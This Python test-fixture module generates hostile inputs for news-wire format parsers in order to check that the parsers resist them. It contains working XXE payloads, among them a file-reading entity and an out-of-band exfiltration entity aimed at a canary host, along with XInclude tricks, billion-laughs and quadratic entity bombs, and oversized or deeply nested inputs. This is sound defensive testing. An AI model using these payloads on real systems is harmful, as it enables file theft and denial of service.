"""Copy made to do harm, in every format: what it tries, and the bytes that try it.

Each file tries one thing. What stands between the lines of ``ENTITIES`` names a canary: a file
that nobody opens and a port that nobody calls, unless a parser does what the file asks of it.
"""

from collections.abc import Callable, Iterator

from tests.newsroom.wire.parsers import (
    ap_media_copy,
    dpa_wires_copy,
    line_copy,
    mail_copy,
    newsml_copy,
    newsml_g2_copy,
    nitf_copy,
    web_feed_copy,
)
from tests.newsroom.wire.parsers.ninjs_copy import as_bytes, ninjs_copy
from tests.newsroom.wire.parsers.photo_copy import FIELDS, packet, photo

MARK = "MARKSTHESPOT"
FULL = 9_900_000  # one story may be 10 MB long; above that it is refused unread
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

type Files = Iterator[tuple[str, bytes]]


# --- A story of each format, with something of ours as its headline or within its text ---


def _nitf(html: str, headline: str = "Wall") -> bytes:
    return nitf_copy.nitf(content=f"<p>It held.</p>{html}", headline=headline)


def _newsml(html: str, headline: str = "Wall") -> bytes:
    text = newsml_copy.content(newsml_copy.nitf(f"<p>It held.</p>{html}"))
    line = f"<NewsLines><HeadLine>{headline}</HeadLine></NewsLines>"
    return newsml_copy.newsml_of(newsml_copy.item(newsml_copy.component(line, text)))


def _newsml_g2(html: str, headline: str = "Wall") -> bytes:
    body = newsml_g2_copy.xhtml(f"<p>It held.</p>{html}")
    meta = f"<headline>{headline}</headline>"
    item = newsml_g2_copy.item(newsml_g2_copy.content_set(body), meta=meta)
    return newsml_g2_copy.message(item)


def _entry(html: str, headline: str = "Wall") -> web_feed_copy.Story:
    return web_feed_copy.Story(1, headline, ("It held.", html))


def _rss(html: str, headline: str = "Wall") -> bytes:
    return web_feed_copy.rss([_entry(html, headline)])


def _atom(html: str, headline: str = "Wall") -> bytes:
    return web_feed_copy.atom([_entry(html, headline)], kind="xhtml")


def _atom_escaped(html: str, headline: str = "Wall") -> bytes:
    return web_feed_copy.atom([_entry(html, headline)])


def _json_feed(html: str, headline: str = "Wall") -> bytes:
    return as_bytes(web_feed_copy.json_feed([_entry(html, headline)]))


def _ninjs(html: str, headline: str = "Wall") -> bytes:
    text = {"body_html": f"<p>It held.</p>{html}", "headline": headline}
    return as_bytes(ninjs_copy(1) | text)


def _dpa(html: str, headline: str = "Mauer") -> bytes:
    body = f'<section class="main"><p>It held.</p>{html}</section>'
    return as_bytes(dpa_wires_copy.dpa_entry(1, article_html=body, headline=headline))


def _ap(html: str, headline: str = "Wall") -> bytes:
    item = ap_media_copy.ap_item(1, headline=headline, body_nitf=f"<p>It held.</p>{html}")
    return as_bytes(ap_media_copy.envelope(item))


def _mail(html: str, headline: str = "Wall") -> bytes:
    subject = " ".join(headline.split())
    page = f"<html><body><p>It held.</p>{html}</body></html>"
    return mail_copy.mail(page, content_type="text/html; charset=utf-8", subject=subject)


def _text(html: str, headline: str = "Wall") -> bytes:
    return f"{headline}\n\nKARACHI, May 2 (AFP) - It held.\n\n{html}\n".encode()


def _anpa(html: str, headline: str = "Wall") -> bytes:
    return line_copy.anpa(headline=_latin(headline), paragraphs=("It held.", _latin(html)))


def _iptc7901(html: str, headline: str = "Wall") -> bytes:
    return line_copy.iptc7901(headline=_latin(headline), paragraphs=("It held.", _latin(html)))


def _photo(html: str, headline: str = "Wall") -> bytes:
    # An IIM block within a segment of JPEG holds no more.
    said = {(2, 105): headline[:20_000], (2, 120): html[:30_000]}
    return photo(FIELDS | said)


def _latin(text: str) -> str:
    return text.encode("latin-1", "replace").decode("latin-1")


STRICT = {"nitf": _nitf, "newsml": _newsml, "newsml-g2": _newsml_g2, "atom-xhtml": _atom}
LOOSE = {
    "rss": _rss, "atom": _atom_escaped, "json-feed": _json_feed, "ninjs": _ninjs,
    "dpa-wires": _dpa, "ap-media": _ap, "email": _mail,
}  # fmt: skip
PLAIN = {"text": _text, "anpa1312": _anpa, "iptc7901": _iptc7901, "photo": _photo}
XML: dict[str, Callable[..., bytes]] = {**STRICT, "rss": _rss, "atom": _atom_escaped}
EVERY: dict[str, Callable[..., bytes]] = {**STRICT, **LOOSE, **PLAIN}


# --- XML that wants something fetched, or that grows ---

_TEN = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
# What stands in the DOCTYPE, and the reference that is to be followed.
ENTITIES = {
    "file entity": ('[<!ENTITY x SYSTEM "{file}">]', "&x;"),
    "http entity": ('[<!ENTITY x SYSTEM "{http}/x">]', "&x;"),
    "public entity": ('[<!ENTITY x PUBLIC "-//X//Y//EN" "{http}/x">]', "&x;"),
    "external DTD": ('SYSTEM "{http}/nitf.dtd"', ""),
    "external DTD in a file": ('SYSTEM "{file}"', "&x;"),
    "parameter entity": ('[<!ENTITY % p SYSTEM "{http}/p.dtd"> %p;]', "&x;"),
    "parameter entity in a file": ('[<!ENTITY % p SYSTEM "{file}"> %p;]', "&x;"),
    "nested parameter entities": (
        '[<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; o SYSTEM \'{http}/?%f;\'>">'
        "%e;%o;]", "",
    ),
    "billion laughs": (f'[<!ENTITY l0 "ha">{_TEN}]', "&l11;"),
    "quadratic blow-up": (f'[<!ENTITY q "{"q" * 100_000}">]', "&q;" * 50_000),
    "entity that holds itself": ('[<!ENTITY x "&y;"><!ENTITY y "&x;">]', "&x;"),
    "lower-case doctype": ('[<!entity x system "{file}">]', "&x;"),
}  # fmt: skip


def xml_that_fetches(file: str, http: str) -> Files:
    for name, make in XML.items():
        for what, (doctype, reference) in ENTITIES.items():
            told = doctype.replace("{file}", file).replace("{http}", http)
            root = "nitf" if name == "nitf" else "x"
            yield f"{name}: {what}", _with_doctype(make(MARK, MARK), root, told, reference)
        yield f"{name}: inclusion", make(_inclusion(file), "Wall")
        yield (
            f"{name}: style sheet",
            _declared(make("", "Wall"), f'<?xml-stylesheet type="text/xsl" href="{http}/s.xsl"?>'),
        )
    yield (
        "nitf: schema",
        nitf_copy.nitf(
            attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            f' xsi:schemaLocation="urn:x {http}/s.xsd" xml:base="{http}/"'
        ),
    )
    xmp = packet(dc_description=MARK, dc_title="Wall")
    for what, (doctype, reference) in ENTITIES.items():
        told = doctype.replace("{file}", file).replace("{http}", http)
        block = _with_doctype(xmp, "x", told, reference)
        if len(block) < 60_000:
            yield f"photo: {what} in XMP", photo(xmp=block)
    attached = _with_doctype(_nitf(MARK, MARK), "nitf", f'[<!ENTITY x SYSTEM "{file}">]', "&x;")
    yield (
        "email: file entity attached",
        mail_copy.multipart(
            mail_copy.part("See the story."), mail_copy.part(attached, "text/xml", name="story.xml")
        ),
    )


def _with_doctype(data: bytes, root: str, doctype: str, reference: str) -> bytes:
    return _declared(data, f"<!DOCTYPE {root} {doctype}>").replace(
        MARK.encode(), reference.encode()
    )


def _declared(data: bytes, what: str) -> bytes:
    """``data`` with ``what`` before its root element."""
    declaration, end, root = data.partition(b"?>")
    return declaration + end + what.encode() + root if end else what.encode() + data


def _inclusion(file: str) -> str:
    space = "http://www.w3.org/2001/XInclude"
    return f'<xi:include xmlns:xi="{space}" href="{file}" parse="text"/>'


# --- Too deep, too long, too many ---


def too_deep() -> Files:
    deep = 100_000
    for tag in ("p", "em", "table", "blockquote", "x"):
        for name, make in (STRICT | LOOSE).items():
            if tag in {"em", "x"} or name in {"nitf", "email", "ninjs", "rss"}:
                html = f"<{tag}>" * deep + "deep" + f"</{tag}>" * deep
                yield f"{name}: {deep:,} <{tag}> deep", make(html)
    for name in ("ninjs", "json-feed", "ap-media", "dpa-wires"):
        data = EVERY[name](MARK)
        yield f"{name}: arrays deep", data.replace(b'"' + MARK.encode(), b'"') + b"[" * deep
        nested = b"[" * deep + b"1" + b"]" * deep
        yield f"{name}: list within lists", b'{"x":' + nested + b"," + data[1:]
        nested = b'{"a":' * deep + b"1" + b"}" * deep
        yield f"{name}: object within objects", b'{"x":' + nested + b"," + data[1:]
    yield "json: brackets alone", b"[" * deep
    yield "text: brackets", _text("(" * deep + ")" * deep)


def too_long() -> Files:
    for name, make in EVERY.items():
        yield f"{name}: no space in 9.9 MB", make("x" * FULL)
        if name not in PLAIN:
            yield f"{name}: attribute of 9.9 MB", make(f'<p title="{"x" * FULL}">It held.</p>')
        yield f"{name}: headline of 9.9 MB", make("<p>It held.</p>", "x" * FULL)
    for name in ("nitf", "text", "email", "ninjs"):
        yield f"{name}: spaces of 9.9 MB", EVERY[name]("a" + " " * FULL + "b")
        yield f"{name}: lines of 9.9 MB", EVERY[name]("a" + "\n" * FULL + "b")
        yield f"{name}: hyphens of 9.9 MB", EVERY[name]("-" * FULL)
        yield f"{name}: marks of 9.9 MB", EVERY[name]("a" + "\u0301" * (FULL // 2))
        yield (
            f"{name}: open brackets of 9.9 MB",
            EVERY[name](("(" if name == "nitf" else "<") * FULL),
        )
    yield (
        "text: dateline of 9.9 MB",
        b"KARACHI" + b", KARACHI" * (FULL // 9) + b" (AFP) - It held.\n",
    )
    yield "text: slug of 9.9 MB", b"ZCZC\n" + b"Pakistan-" * (FULL // 9) + b"\n\nIt held.\n\nNNNN\n"


def too_many() -> Files:
    million = 1_000_000
    attributes = "".join(f' a{n}=""' for n in range(million))
    for name in ("nitf", "newsml", "newsml-g2", "rss", "ninjs", "email"):
        yield f"{name}: 1,000,000 attributes", EVERY[name](f"<p{attributes}>It held.</p>")
        yield f"{name}: 1,000,000 elements", EVERY[name]("<p/>" * million)
        yield f"{name}: 1,000,000 breaks", EVERY[name]("<p>" + "<br/>" * million + "</p>")
        yield f"{name}: 600,000 paragraphs", EVERY[name]("<p>It</p>" * 600_000)
        yield f"{name}: 300,000 links", EVERY[name]('<a href="http://x.example/">It</a>' * 300_000)
        yield (
            f"{name}: 400,000 cells",
            EVERY[name](f"<table><tr>{'<td>1</td>' * 400_000}</tr></table>"),
        )
        yield f"{name}: 400,000 tags not closed", EVERY[name]("<em><p>It" * 400_000)
        yield f"{name}: 900,000 references", EVERY[name]("&eacute;" * 900_000)
    for name in ("nitf", "newsml-g2"):
        spaces = "".join(f' xmlns:n{n}="urn:{n}"' for n in range(200_000))
        yield f"{name}: 200,000 name spaces", EVERY[name](f"<x{spaces}>It held.</x>")
    entry = _entry("")
    yield "rss: 20,000 entries", web_feed_copy.rss([entry] * 20_000)
    yield "newsml-g2: 8,000 empty items", newsml_g2_copy.message(*[newsml_g2_copy.item()] * 8_000)
    yield "newsml: 8,000 empty items", newsml_copy.newsml_of(*[newsml_copy.item()] * 8_000)
    yield "text: 500,000 stories", b"ZCZC\n\nIt\n\nNNNN\n" * 500_000
    yield "json: 1,000,000 objects", b"[" + b",".join([b"{}"] * million) + b"]"
    yield (
        "ninjs: 900,000 names",
        _ninjs("")[:-1] + b"," + ",".join(f'"{n}":1' for n in range(800_000)).encode() + b"}",
    )
    subject = {"code": "04000000", "name": "x"}
    yield "ninjs: 100,000 subjects", as_bytes(ninjs_copy(1) | {"subject": [subject] * 100_000})


# --- Files that are cut into items ---


def seams_that_never_end() -> Files:
    """Each is longer than one story may be, so it is searched for where its items begin."""
    long = 11_000_000
    rss, g2 = b"<rss><channel>", f'<newsMessage xmlns="{newsml_g2_copy.NAR}"><itemSet>'.encode()
    for what, filling in {
        "tags left open": b'<item "',
        "tags left open within quotes": b"<item a=\"'",
        "comments left open": b"<!-- <item>",
        "CDATA left open": b"<![CDATA[ <item>",
        "instructions left open": b"<? <item ",
        "declarations left open": b"<!DOCTYPE [ <item ",
        "items within items": b"<item>",
        "items that end without a beginning": b"</item>",
        "prefixes": b"<" + b"a" * 60 + b":",
    }.items():
        yield f"rss: {what}", rss + filling * (long // len(filling))
        yield (
            f"rss: {what} before its item",
            (
                rss
                + filling * (900_000 // len(filling))
                + b"'\">]]>-->?><item><title>x</title></item>"
            ).ljust(long),
        )
    yield "newsml-g2: 11 MB of attributes", g2 + b"<newsItem" + b' a="b"' * (long // 6) + b"/>"
    yield "newsml-g2: attribute of 11 MB", g2 + b'<newsItem a="' + b"b" * long + b'"/>'
    yield "json: text of 11 MB", b'[{"uri":"' + b"x" * long + b'"}]'
    yield "json: escapes of 11 MB", b'[{"uri":"' + b"\\n" * (long // 2) + b'"}]'
    yield "json: text that has no end", b'[{"uri":"' + b'\\"' * (long // 2)
    yield "json: brackets of 11 MB", b"[{" + b"[{" * (long // 2)
    yield "text: 11 MB of beginnings", b"ZCZC\n" * (long // 5)
    yield "text: 11 MB of space before a beginning", b"ZCZC\n" + b" \t" * (long // 2) + b"ZCZC\n"
    yield "text: 11 MB of empty lines", b"ZCZC\n" + b"\n" * long + b"ZCZC\n"
    yield "iptc7901: 11 MB of beginnings", b"\x01abc1" * (long // 5)
    yield "anpa1312: 11 MB of beginnings", b"\x16\x16\x01" * (long // 3)
    root = nitf_copy.nitf(content=f"<p>{'It held. ' * 3_000}</p>").partition(b"?>")[2]
    yield (
        "nitf: a DTD in 11 MB",
        (b'<!DOCTYPE nitf SYSTEM "http://127.0.0.1:9/x">' + root * (long // len(root))),
    )
